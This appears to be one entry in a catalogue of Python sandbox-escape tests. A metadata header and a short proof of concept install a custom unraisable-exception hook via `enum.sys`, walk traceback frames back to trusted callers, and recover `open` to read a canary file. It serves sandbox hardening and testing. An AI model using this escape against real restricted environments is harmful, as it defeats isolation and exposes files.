# id: unraisable-hook-object
# family: interpreter-hooks
# kind: information-leak
# invariant: C, D, E
# origin: found while probing CPython
# technique: the hook for errors in finalisers is given the traceback, and the frame it begins with has trusted callers
# needs: 3.8+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import enum
import heapq


class Falling:
    def __del__(self):
        raise LookupError


def hook(unraisable):
    frame = unraisable.exc_traceback.tb_frame
    while "open" not in frame.f_builtins:
        frame = frame.f_back
    print(frame.f_builtins["open"]("canary.txt").read())


enum.sys.unraisablehook = hook
heapq.nsmallest(1, [1], key=lambda value: Falling() and value)
